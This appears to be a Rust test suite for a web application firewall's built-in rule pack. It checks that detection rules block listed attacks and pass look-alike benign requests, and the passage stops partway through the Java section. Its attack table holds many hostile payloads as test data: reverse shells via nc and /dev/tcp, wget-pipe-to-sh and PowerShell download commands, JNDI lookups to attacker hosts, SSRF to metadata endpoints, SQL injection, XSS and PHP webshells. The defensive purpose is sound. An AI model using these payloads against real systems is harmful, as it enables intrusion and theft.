//! Tests of the built-in rule pack, `rules/builtin/*.conf`.
//!
//! The pack is built here straight from the repository's files (in name
//! order, through a `MemorySource`), with no help from this crate's library,
//! so these tests check the rules themselves:
//!
//! - every detection rule catches the attacks listed for it (and a CRITICAL
//!   hit blocks with 403), and look-alike benign inputs match no rule at all;
//! - every request of the repository's corpus (`tests/corpus`) gets its
//!   expected verdict;
//! - the path bypasses of issue #10 (path parameters, shell globs, quotes,
//!   and the encodings blocked before) are blocked in the path and in
//!   arguments, while paths that only look like them match nothing;
//! - the disguised-name regex of rules 4220220/4220230 is the one its
//!   comment describes;
//! - anomaly scoring: one WARNING does not block, two do, and the threshold
//!   can be raised by an earlier rule;
//! - the rule text follows the pack's conventions (ids, msg, severity, tags,
//!   logdata, score matching the severity, no SecDefaultAction);
//! - every `@rx` can be prefiltered by its literals;
//! - the pack loads next to the CRS (when the CRS is present).
//!
//! JSON and multipart cases need the engine's body processors. Where the
//! engine does not parse those bodies yet (checked by a probe), the cases are
//! counted and printed as skipped rather than failed; once it does, they run.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use portcullis_engine::{Interruption, MemorySource, Phase, RuleEntry, RuleId, RuleMatch, RuleSet};

// ---------------------------------------------------------------------------
// Building the pack

/// The pack's directory.
fn pack_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/builtin")
}

/// The request corpus: `$PORTCULLIS_CORPUS`, else the repository's `tests/corpus`.
fn corpus_dir() -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    std::env::var_os("PORTCULLIS_CORPUS").filter(|v| !v.is_empty()).map_or_else(|| root.join("tests/corpus"), |d| root.join(d))
}

/// The CRS directory, looked up as `build.rs` does: `$CRS_DIR`, else
/// `../shared/crs/v4.28.0`, else `tmp/crs/v4.28.0` (scripts/fetch-crs.sh).
fn crs_dir() -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    if let Some(d) = std::env::var_os("CRS_DIR").filter(|v| !v.is_empty()) {
        return root.join(d);
    }
    let shared = root.join("../shared/crs/v4.28.0");
    if shared.join("rules").is_dir() { shared } else { root.join("tmp/crs/v4.28.0") }
}

/// A named file: `(display name, bytes)`.
type File = (String, Vec<u8>);

/// Files of `dir` ending in `ext`, sorted by name: `(prefix/name, bytes)`.
fn files(dir: &Path, ext: &str, prefix: &str) -> Vec<File> {
    let mut out: Vec<File> = fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().and_then(|n| n.to_str()).is_some_and(|n| n.ends_with(ext)))
        .map(|p| {
            let name = format!("{prefix}/{}", p.file_name().unwrap().to_str().unwrap());
            (name, fs::read(&p).unwrap())
        })
        .collect();
    out.sort();
    out
}

/// The pack's rule files and data files.
fn pack_files() -> (Vec<File>, Vec<File>) {
    let dir = pack_dir();
    let confs = files(&dir, ".conf", "rules/builtin");
    assert!(confs.len() >= 5, "expected the pack's .conf files in {}", dir.display());
    (confs, files(&dir, ".data", "rules/builtin"))
}

/// Build a rule set: the inline `prelude` entries, then `files` (rule files
/// loaded in the given order), with `data` resolvable by `@pmFromFile`.
fn build(prelude: &[&str], confs: &[File], data: &[File]) -> Arc<RuleSet> {
    let mut src = MemorySource::new();
    for (name, bytes) in confs.iter().chain(data) {
        src = src.with(name, bytes.clone());
    }
    let mut entries: Vec<RuleEntry<'_>> = prelude.iter().map(|t| RuleEntry::Text { name: "<prelude>", text: t }).collect();
    entries.extend(confs.iter().map(|(n, _)| RuleEntry::Source(n)));
    match RuleSet::builder().build_entries(&src, &entries) {
        Ok(rules) => Arc::new(rules),
        Err(e) => {
            let lines: Vec<String> = e.diagnostics.iter().map(|d| d.to_string()).collect();
            panic!("the pack does not build:\n{}", lines.join("\n"));
        }
    }
}

/// The pack alone, built once.
fn pack() -> &'static Arc<RuleSet> {
    static PACK: OnceLock<Arc<RuleSet>> = OnceLock::new();
    PACK.get_or_init(|| {
        let (confs, data) = pack_files();
        build(&[], &confs, &data)
    })
}

// ---------------------------------------------------------------------------
// Requests

const CHROME: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

/// A real browser's request headers (Chrome 124 on Linux).
const BROWSER: &[(&str, &str)] = &[
    ("Host", "shop.example.com"),
    ("User-Agent", CHROME),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9,de;q=0.8"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Referer", "https://shop.example.com/search?q=running+shoes&page=2"),
    ("Sec-Ch-Ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
    ("Sec-Ch-Ua-Mobile", "?0"),
    ("Sec-Ch-Ua-Platform", "\"Linux\""),
    ("Sec-Fetch-Dest", "document"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-Site", "same-origin"),
    ("Sec-Fetch-User", "?1"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Cookie", "session_id=8f14e45fceea167a5a36dedd4bea2543; _ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; theme=dark; cart_items=3"),
];

/// What a test needs from the engine beyond the rules.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Needs {
    Nothing,
    /// JSON bodies parsed into ARGS.
    Json,
    /// Multipart bodies parsed into ARGS and FILES.
    Multipart,
    /// XML bodies parsed into XML:/*.
    Xml,
}

/// One HTTP request.
#[derive(Clone, Debug)]
struct Req {
    method: String,
    uri: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    needs: Needs,
}

impl Req {
    /// A browser request with `method` and `uri`.
    fn new(method: &str, uri: &str) -> Req {
        Req {
            method: method.into(),
            uri: uri.into(),
            headers: BROWSER.iter().map(|(n, v)| (n.to_string(), v.to_string())).collect(),
            body: Vec::new(),
            needs: Needs::Nothing,
        }
    }

    /// A browser GET of `uri`.
    fn get(uri: &str) -> Req {
        Req::new("GET", uri)
    }

    /// A POST with a body of type `ctype`.
    fn post(uri: &str, ctype: &str, body: &[u8]) -> Req {
        let len = body.len().to_string();
        let mut r = Req::new("POST", uri).header("Content-Type", ctype).header("Content-Length", &len);
        r.body = body.to_vec();
        r
    }

    /// Set header `name` (replacing one of the same name).
    fn header(mut self, name: &str, value: &str) -> Req {
        match self.headers.iter_mut().find(|(n, _)| n.eq_ignore_ascii_case(name)) {
            Some(h) => h.1 = value.into(),
            None => self.headers.push((name.into(), value.into())),
        }
        self
    }
}

/// Percent-encode everything but unreserved characters.
fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Base64 of `s`: the standard alphabet with padding, or (`url`) base64url
/// without padding.
fn b64(s: &[u8], url: bool) -> String {
    const STD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in s.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | (u32::from(b) << (16 - 8 * i)));
        for k in 0..=chunk.len() {
            let c = STD[((n >> (18 - 6 * k)) & 63) as usize] as char;
            out.push(match (url, c) {
                (true, '+') => '-',
                (true, '/') => '_',
                (_, c) => c,
            });
        }
        if !url {
            out.push_str(&"=".repeat(3 - chunk.len()));
        }
    }
    out
}

/// `s` as NUL-interleaved UTF-16LE (ASCII only).
fn utf16le(s: &str) -> Vec<u8> {
    s.bytes().flat_map(|b| [b, 0]).collect()
}

/// GET /search?q=<bytes>, every byte percent-encoded as needed.
fn q_bytes(v: &[u8]) -> Req {
    let mut s = String::new();
    for &b in v {
        if b.is_ascii_alphanumeric() {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    Req::get(&format!("/search?q={s}"))
}

/// GET /search?q=<v>.
fn q(v: &str) -> Req {
    Req::get(&format!("/search?q={}", enc(v)))
}

/// GET /page?<name>=<v>, both encoded.
fn arg(name: &str, v: &str) -> Req {
    Req::get(&format!("/page?{}={}", enc(name), enc(v)))
}

/// GET with a raw query string (names and values as written).
fn raw(uri: &str) -> Req {
    Req::get(uri)
}

/// POST of an urlencoded form.
fn form(pairs: &[(&str, &str)]) -> Req {
    let body: Vec<String> = pairs.iter().map(|(k, v)| format!("{}={}", enc(k), enc(v))).collect();
    Req::post("/form", "application/x-www-form-urlencoded", body.join("&").as_bytes())
}

/// POST of a JSON document.
fn json(doc: &str) -> Req {
    let mut r = Req::post("/api/v1/items", "application/json", doc.as_bytes()).header("Accept", "application/json");
    r.needs = Needs::Json;
    r
}

/// POST of an XML document.
fn xml(doc: &str) -> Req {
    let mut r = Req::post("/api/v1/orders.xml", "application/xml", doc.as_bytes());
    r.needs = Needs::Xml;
    r
}

const BOUNDARY: &str = "----WebKitFormBoundaryq8NzTkB2v3Jm1xYe";

/// POST of a multipart form: one text field and one file.
fn multipart(filename: &str, file_type: &str, content: &str) -> Req {
    let body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy picture\r\n\
         --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {file_type}\r\n\r\n{content}\r\n\
         --{BOUNDARY}--\r\n"
    );
    Req::post("/account/upload", &format!("multipart/form-data; boundary={BOUNDARY}"), body.as_bytes())
}

/// A multipart body whose closing boundary never comes.
fn multipart_broken() -> Req {
    let body = format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nunterminated");
    let mut r = Req::post("/account/upload", &format!("multipart/form-data; boundary={BOUNDARY}"), body.as_bytes());
    r.needs = Needs::Multipart;
    r
}

/// What the pack decided about one request.
struct Outcome {
    matches: Vec<RuleMatch>,
    interruption: Option<Interruption>,
    score: Option<String>,
}

impl Outcome {
    fn ids(&self) -> Vec<i64> {
        self.matches.iter().map(|m| m.rule_id.get()).collect()
    }
}

/// Run `req` through phases 1 and 2 of `rules`, as the filter does.
fn run(rules: &Arc<RuleSet>, req: &Req) -> Outcome {
    let mut tx = rules.new_transaction();
    tx.process_connection("203.0.113.10", 50123, "10.0.0.2", 8080);
    tx.process_uri(req.uri.as_bytes(), req.method.as_bytes(), b"HTTP/1.1");
    for (n, v) in &req.headers {
        tx.add_request_header(n.as_bytes(), v.as_bytes());
    }
    let stopped = tx.process_request_headers().is_some()
        || (tx.wants_request_body() && !req.body.is_empty() && tx.append_request_body(&req.body).is_some());
    if !stopped {
        tx.process_request_body();
    }
    let score = tx.tx_var("portcullis_inbound_score").map(|v| String::from_utf8_lossy(&v).into_owned());
    Outcome { matches: tx.matches().to_vec(), interruption: tx.interruption().cloned(), score }
}

/// Short description of an outcome, for failure messages.
fn describe(o: &Outcome) -> String {
    let m: Vec<String> = o.matches.iter().map(|m| format!("{} {} [{}]", m.rule_id, m.severity_name(), m.data)).collect();
    format!("interruption {:?}, score {:?}, matches: {}", o.interruption.as_ref().map(|i| (i.status, i.rule_id)), o.score, m.join(" | "))
}

// ---------------------------------------------------------------------------
// Body-processor probes

/// Whether the engine parses JSON bodies into ARGS yet.
fn json_parsing() -> bool {
    static OK: OnceLock<bool> = OnceLock::new();
    *OK.get_or_init(|| {
        let rules = build(
            &["SecRequestBodyAccess On\n\
               SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/json\" \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n\
               SecRule ARGS:json.probe \"@streq yes\" \"id:2,phase:2,deny,status:403,log\""],
            &[],
            &[],
        );
        run(&rules, &json(r#"{"probe":"yes"}"#)).interruption.is_some()
    })
}

/// Whether the engine parses multipart bodies into FILES yet.
fn multipart_parsing() -> bool {
    static OK: OnceLock<bool> = OnceLock::new();
    *OK.get_or_init(|| {
        let rules = build(&["SecRequestBodyAccess On\nSecRule FILES \"@streq probe.txt\" \"id:1,phase:2,deny,status:403,log\""], &[], &[]);
        run(&rules, &multipart("probe.txt", "text/plain", "x")).interruption.is_some()
    })
}

/// Whether the engine parses XML bodies into XML:/* yet.
fn xml_parsing() -> bool {
    static OK: OnceLock<bool> = OnceLock::new();
    *OK.get_or_init(|| {
        let rules = build(
            &["SecRequestBodyAccess On\n\
               SecRule REQUEST_HEADERS:Content-Type \"@rx ^application/xml\" \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML\"\n\
               SecRule XML:/* \"@streq yes\" \"id:2,phase:2,deny,status:403,log\""],
            &[],
            &[],
        );
        run(&rules, &xml("<probe>yes</probe>")).interruption.is_some()
    })
}

/// Whether `needs` is met.
fn available(needs: Needs) -> bool {
    match needs {
        Needs::Nothing => true,
        Needs::Json => json_parsing(),
        Needs::Multipart => multipart_parsing(),
        Needs::Xml => xml_parsing(),
    }
}

// ---------------------------------------------------------------------------
// The rule table

/// Attacks each detection rule must catch.
fn attacks() -> Vec<(i64, Req)> {
    let mut v: Vec<(i64, Req)> = Vec::new();
    let mut add = |id: i64, reqs: Vec<Req>| v.extend(reqs.into_iter().map(|r| (id, r)));

    // 10-scanners
    add(4210100, [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "gobuster/3.6",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Acunetix",
        "Fuzz Faster U Fool v2.1.0-dev",
        "feroxbuster/2.10.1",
    ]
    .iter()
    .map(|ua| Req::get("/").header("User-Agent", ua))
    .collect());
    add(4210110, vec![
        Req::get("/").header("Acunetix-Product", "WVS/12.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
        Req::get("/").header("X-WIPP", "AscVersion=22.2.0.253"),
    ]);
    add(4210200, vec![Req::new("TRACE", "/"), Req::new("TRACK", "/index.html"), Req::new("trace", "/")]);
    add(4210300, vec![json(r#"{"a": [1, 2"#), xml("<order><id>1</id>"), multipart_broken()]);

    // 15-decoded
    let sqli = "' OR 1=1--";
    let xss = "<script>alert(1)</script>";
    add(4215100, vec![
        Req::get("/").header("X-Custom", sqli),
        Req::get("/").header("X-Api-Filter", &b64(sqli.as_bytes(), false)),
        Req::get("/").header("X-Forwarded-Host", "x%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
        Req::get("/products/1%27%20OR%20%271%27%3D%271"),
        Req::get("/item/1%20UNION%20SELECT%20password%20FROM%20users--"),
    ]);
    add(4215110, vec![
        Req::get("/").header("X-Custom", xss),
        Req::get("/").header("X-Return-To", &b64(xss.as_bytes(), true)),
        Req::get("/").header("X-Note", "&lt;img src=x onerror=alert(1)&gt;"),
        Req::get("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ]);
    add(4240100, vec![
        q(&b64(sqli.as_bytes(), false)),
        q(&b64(b"1 UNION SELECT username, password FROM users", true)),
        raw("/search?q=%2527%2520OR%25201%253D1--"),
        q_bytes(&utf16le(sqli)),
        form(&[("comment", &b64(b"'; DROP TABLE users; --", false))]),
        json(r#"{"filter":"\u0027 OR 1=1--"}"#),
    ]);
    add(4215210, vec![
        q(&b64(xss.as_bytes(), false)),
        arg("next", &b64(b"<img src=x onerror=alert(1)>", true)),
        form(&[("bio", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;")]),
        json(r#"{"name":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
        raw("/page?x=%253Csvg%2520onload%253Dalert(1)%253E"),
        q_bytes(&[&[0xff, 0xfe][..], &utf16le(xss)].concat()),
        Req::get("/").header("Cookie", &format!("pref={}", b64(b"<svg onload=alert(document.cookie)>", false))),
    ]);
    // The other families' critical argument rules read the decoded forms too.
    add(4220100, vec![arg("file", &b64(b"../../../../etc/passwd", false)), raw("/page?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")]);
    add(4225100, vec![arg("page", &b64(b"http://203.0.113.7/shell.txt?", true))]);
    add(4230100, vec![arg("host", &b64(b"127.0.0.1;cat /etc/passwd", false)), json(r#"{"host":"127.0.0.1\u003bcat /etc/passwd"}"#)]);
    add(4235100, vec![form(&[("message", &b64(b"<?php system($_GET['c']); ?>", false))])]);
    add(4260100, vec![Req::get("/").header("X-Api-Version", &b64(b"${jndi:ldap://attacker.example.com:1389/Exploit}", true))]);

    // 20-lfi
    add(4220100, vec![
        arg("file", "../../etc/passwd"),
        arg("file", "..\\..\\boot.ini"),
        arg("f", "....//....//secret.txt"),
        raw("/page?f=%252e%252e%252fconfig%252fdb.yml"),
        arg("f", "/var/www/../../../root"),
        arg("../../x", "1"),
        Req::get("/").header("Cookie", "lang=../../../../tmp/evil"),
        form(&[("template", "../templates/../../../../etc/hosts")]),
    ]);
    add(4220110, vec![
        Req::get("/static/../../../etc/hosts"),
        Req::get("/static/%2e%2e/%2e%2e/secret"),
        Req::get("/a/%252e%252e/%252e%252e/b"),
        Req::get("/app/..;/manager/html"),
        Req::get("/img/..%5c..%5cwindows%5cwin.ini"),
        Req::get("/%u002e%u002e/%u002e%u002e/etc/issue"),
    ]);
    add(4220120, vec![
        Req::get("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        Req::get("/scripts/..%c1%1c../winnt/system32/cmd.exe"),
        raw("/download?file=%C0%AE%C0%AE%C0%AFsecret"),
    ]);
    add(4220200, [
        "/etc/passwd",
        "/etc/shadow",
        "/etc//passwd",
        "/.env",
        "/.env.production",
        "/app/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.svn/entries",
        "/web.config",
        "/.htaccess",
        "/.htpasswd",
        "/home/deploy/.ssh/id_rsa",
        "/backup/id_ed25519",
        "/proc/self/environ",
        "/.aws/credentials",
        "/.DS_Store",
        "/WEB-INF/web.xml",
        "/windows/win.ini",
        "/%2eenv",
        // Path parameters, which Tomcat and Jetty drop from each segment.
        "/etc;/passwd",
        "/etc;jsessionid=0123ABCD/passwd",
        "/etc/;/passwd",
        "/etc/.;/passwd",
        "/proc;/self;x/environ",
        "/WEB-INF;x/web.xml",
        "/windows;/system32;/drivers/etc/hosts",
    ]
    .iter()
    .map(|p| Req::get(p))
    .collect());
    add(4220210, vec![
        arg("file", "/etc/passwd"),
        arg("f", "C:\\Windows\\win.ini"),
        arg("tpl", "/proc/self/environ"),
        arg("include", "/var/www/html/.htaccess"),
        arg("page", "php://filter/resource=/etc/shadow"),
        Req::get("/").header("Cookie", "tpl=/var/log/apache2/access.log"),
        form(&[("path", "/home/app/.ssh/id_rsa")]),
    ]);
    // A glob or quote in a URL path must be percent-encoded where the URL
    // syntax gives it a meaning (? and " here); * and ' may appear as is.
    add(4220220, [
        "/etc/pa%3F%3Fwd",
        "/etc/pas*d",
        "/e%3Fc/p*wd",
        "/et''c/pa%22%22sswd",
        "/etc/pass%5Bw%5Dd",
        "/%3F%3F%3F/%3F%3Fss%3F%3F",
        "/e*/host%3F",
        "/etc;x/sh*dow",
        "/cgi-bin/../etc/sudo*",
        "/etc/pa%253F%253Fwd",
    ]
    .iter()
    .map(|p| Req::get(p))
    .collect());
    add(4220230, vec![
        raw("/download?file=/etc/pa??wd"),
        raw("/download?file=/etc/pas*d"),
        raw("/download?file=/e?c/p*wd"),
        raw("/download?file=/et''c/pa\"\"sswd"),
        arg("file", "/et''c/pa\"\"sswd"),
        arg("file", "/et\\c/pa\\sswd"),
        arg("file", "/???/??ss??"),
        arg("file", "/etc/pass[w]d"),
        arg("file", "/ETC/PA??WD"),
        arg("cmd", "cat /e??/sh*w"),
        arg("f", "/etc/master.pa*"),
        raw("/download?file=/etc/pa%253F%253Fwd"),
        Req::get("/").header("Cookie", "tpl=/e?c/gr?up"),
        form(&[("path", "/etc/'sudoers'")]),
    ]);

    // 25-rfi-ssrf
    add(4225100, vec![
        raw("/index.php?page=http://203.0.113.7/shell.txt%3F"),
        arg("url", "https://evil.example/x.txt??"),
        arg("inc", "ftp://evil.example/x.php\0"),
    ]);
    add(4225110, vec![
        arg("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        arg("u", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
        arg("u", "http://[fd00:ec2::254]/latest/meta-data/"),
        arg("u", "http://2852039166/latest/"),
        arg("u", "http://0xA9FEA9FE/latest/"),
        arg("u", "http://[::ffff:a9fe:a9fe]/"),
        form(&[("webhook", "http://100.100.100.200/latest/meta-data/")]),
    ]);

    // 30-rce
    add(4230100, vec![
        arg("host", "127.0.0.1;cat /etc/passwd"),
        arg("host", "8.8.8.8; wget http://evil.example/x.sh -O-|sh"),
        arg("host", "x| id"),
        arg("host", "x&&id"),
        arg("host", "x && whoami"),
        arg("host", "$(id)"),
        arg("host", "`uname -a`"),
        arg("host", "x || ping -c 10 127.0.0.1"),
        arg("host", "x\nls -la"),
        arg("host", "1;/usr/bin/curl http://evil.example/a"),
        arg("host", "x; python3 -c 'import os'"),
        arg("host", "a | nc -e /bin/sh 198.51.100.1 4444"),
        form(&[("host", "8.8.8.8%3B+wget+http://evil.example/x.sh")]),
        Req::get("/").header("Cookie", "name=x|curl http://evil.example/a"),
    ]);
    add(4230170, vec![
        arg("host", "x;  pwd"),
        arg("host", "1.1.1.1; sleep 5"),
        arg("host", "x; whoami"),
        arg("host", "x\nid"),
        arg("host", "x; curl evil.example"),
        arg("host", "8.8.8.8; nslookup 203.0.113.9"),
        arg("host", "$(nslookup `whoami`.evil.example)"),
        arg("q", "hello\n\n```\nbash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n```\n"),
        arg("q", "we saw `curl -s http://198.51.100.1/a | sh` here"),
        arg("q", "see `cat /etc/shadow` there"),
        arg("q", "x; mkfifo /tmp/f"),
        arg("q", "{cat,/etc/passwd}"),
        arg("q", "x || ping -c 10 127.0.0.1"),
        arg("x", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
        arg("x", "exec 5<>/dev/tcp/198.51.100.1/4444"),
        arg("x", "cat${IFS}/etc/passwd"),
        arg("x", "x$IFS$9id"),
    ]);
    add(4230110, vec![
        arg("x", "/bin/bash"),
        arg("x", "nc -e /bin/sh 198.51.100.1 80"),
    ]);
    add(4230120, vec![
        arg("c", "x & cmd /c whoami"),
        arg("c", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
        arg("c", "x| type c:\\windows\\win.ini"),
        arg("c", "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
        arg("c", "x & net user hacker P@ss1 /add"),
        arg("c", "%COMSPEC% /c dir"),
        arg("c", "x|certutil -urlcache -f http://evil.example/a.exe a.exe"),
        arg("c", "whoami"),
    ]);
    add(4230130, vec![
        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; echo vulnerable"),
        Req::get("/cgi-bin/status").header("Referer", "() { _; } >_[$($())] { id; }"),
        arg("x", "() { :;}; echo vulnerable"),
    ]);

    // 35-php
    add(4235100, vec![
        form(&[("name", "Bob"), ("message", "<?php system($_GET['c']); ?>")]),
        arg("x", "<?=`ls`?>"),
        arg("x", "<? passthru('id'); ?>"),
        Req::get("/").header("Cookie", "t=<?php phpinfo(); ?>"),
    ]);
    add(4235110, {
        let mut r = vec![
            multipart("shell.php", "application/x-php", "<?php system($_GET['c']); ?>"),
            multipart("avatar.jpg", "image/jpeg", "GIF89a;<?= `$_GET[1]` ?>"),
        ];
        for x in &mut r {
            x.needs = Needs::Multipart;
        }
        r
    });
    add(4235120, {
        let mut r = vec![
            multipart("shell.php", "application/x-php", "hello"),
            multipart("image.php.jpg", "image/jpeg", "hello"),
            multipart("x.phtml", "text/plain", "hello"),
            multipart(".htaccess", "text/plain", "AddType application/x-httpd-php .jpg"),
        ];
        for x in &mut r {
            x.needs = Needs::Multipart;
        }
        r
    });
    add(4235130, vec![
        arg("f", "php://filter/convert.base64-encode/resource=index.php"),
        arg("f", "phar://uploads/avatar.jpg/x"),
        arg("f", "expect://id"),
        arg("f", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
        arg("f", "zip://uploads/a.zip#shell.php"),
        arg("f", "PHP://input"),
    ]);
    add(4235140, vec![
        Req::get("/").header("Cookie", "prefs=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
        arg("d", "a:1:{i:0;O:4:\"Evil\":0:{}}"),
        form(&[("state", "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}")]),
    ]);
    add(4235150, vec![arg("x", "phpinfo()"), arg("x", "echo $_GET[a]"), arg("x", "base64_decode('cGhw')"), arg("x", "eval(gzinflate($x))")]);

    // 40-sqli
    add(4240100, vec![
        arg("id", "1' OR '1'='1"),
        arg("id", "1 OR 1=1"),
        form(&[("username", "admin'--"), ("password", "x")]),
        arg("q", "1' UNION SELECT username,password FROM users-- "),
        Req::get("/").header("Cookie", "tracking=1' OR '1'='1"),
        arg("id", "1; DROP TABLE users"),
    ]);
    add(4240110, vec![
        arg("q", "1 UNION SELECT a,b FROM t"),
        arg("q", "1 union/**/select 1,2"),
        arg("q", "1 UNION ALL SELECT NULL,NULL--"),
        arg("q", "-1 union(select 1)"),
        arg("q", "1 UNION DISTINCT SELECT @@version"),
        xml("<search><q>1' UNION SELECT password FROM users--</q></search>"),
    ]);
    add(4240120, vec![
        arg("id", "1 OR 1=1"),
        arg("id", "1' or '1'='1"),
        arg("u", "admin\" or \"\"=\""),
        arg("id", "1) or (1=1"),
        arg("id", "' or true--"),
        arg("id", "1 AND 1=2"),
        arg("u", "x' OR 'a'='a"),
        arg("u", "x' or 1 --"),
    ]);
    add(4240130, vec![
        arg("id", "1; DROP TABLE users"),
        arg("id", "1'; DELETE FROM users--"),
        arg("id", "1; EXEC xp_cmdshell 'dir'"),
        arg("q", "x' INTO OUTFILE '/var/www/x.php"),
        arg("id", "1 AND load_file('/etc/hosts')"),
        arg("id", "1'; insert into admins values('x')--"),
    ]);
    add(4240140, vec![
        arg("id", "1 AND sleep(5)"),
        arg("id", "1' AND SLEEP(5)--"),
        arg("id", "1;WAITFOR DELAY '0:0:5'--"),
        arg("id", "1 AND BENCHMARK(5000000,MD5(1))"),
        arg("id", "1;select pg_sleep(10)"),
        arg("id", "1 and sleep((select 5))"),
    ]);
    add(4240150, vec![arg("u", "admin'--"), arg("u", "x')#"), arg("q", "/*!50000select*/ 1")]);
    add(4240160, vec![arg("q", "information_schema.tables"), arg("q", "@@version")]);

    // 45-nosql
    add(4245100, vec![
        raw("/login?username[$ne]=x&password[$ne]=y"),
        raw("/login?user[$gt]="),
        raw("/login?$where=sleep(100)"),
        arg("filter", "{\"$where\": \"this.a == 1\"}"),
        {
            let mut r = json(r#"{"username":{"$ne":null},"password":{"$ne":null}}"#);
            r.needs = Needs::Json;
            r
        },
    ]);

    // 50-xss
    add(4250100, vec![arg("q", "<script>alert(1)</script>"), arg("q", "<img src=x onerror=alert(1)>"), arg("q", "\" onmouseover=\"alert(1)")]);
    add(4250110, vec![
        arg("q", "<script>alert(1)</script>"),
        arg("q", "<iframe src=javascript:alert(1)>"),
        arg("q", "<svg><animate onbegin=alert(1) attributeName=x>"),
        arg("q", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        raw("/search?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
        arg("q", "\\u003cscript\\u003ealert(1)"),
        arg("q", "<BASE href=//evil.example/>"),
    ]);
    add(4250120, vec![
        arg("q", "\" onmouseover=\"alert(1)"),
        arg("q", "<svg/onload=alert(1)>"),
        arg("q", "<body onload=alert(1)>"),
        arg("q", "x' onfocus='alert(1)' autofocus='"),
        arg("q", "<img src=x onerror=alert(document.cookie)>"),
    ]);
    add(4250130, vec![
        arg("u", "javascript:alert(1)"),
        arg("u", "JaVaScRiPt:alert(document.domain)"),
        arg("u", "java\tscript:alert(1)"),
        arg("u", "javascript://%0aalert(1)"),
        arg("u", "data:text/html,<script>alert(1)</script>"),
        arg("u", "vbscript:msgbox(1)"),
        arg("u", "javascript: void(0)"),
    ]);

    // 60-java
    add(4260100, vec![
        Req::get("/api/v1/status").header("X-Api-Version", "${jndi:ldap://attacker.example.com:1389/Exploit}"),
        Req::get("/").header("User-Agent", "${${lower:j}ndi:ldap://attacker.example.com/a}"),
        Req::get("/").header("X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example.com/a}"),
        Req::get("/").header("Referer", "${j${k8s:k5:-ND}i:dns://attacker.example.com/a}"),
        Req::get("/").header("Authorization", "Bearer ${env:AWS_SECRET_ACCESS_KEY}"),
        Req::get("/%24%7Bjndi:ldap://attacker.example.com/a%7D"),
        raw("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.com%2Fa%7D"),
        Req::get("/").header("Cookie", "theme=${jNdI:LDAP://attacker.example.com/a}"),
